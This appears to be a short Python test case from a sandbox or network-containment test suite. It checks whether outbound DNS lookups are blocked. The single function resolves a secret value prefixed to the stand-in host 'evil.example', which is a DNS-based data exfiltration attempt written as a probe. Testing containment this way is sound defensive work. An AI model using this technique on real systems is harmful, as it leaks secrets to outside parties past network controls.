# class: network
# rule: outbound_connectivity
# success: a name that carries data is looked up by gethostbyname_ex
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.gethostbyname_ex(SECRET + ".evil.example")
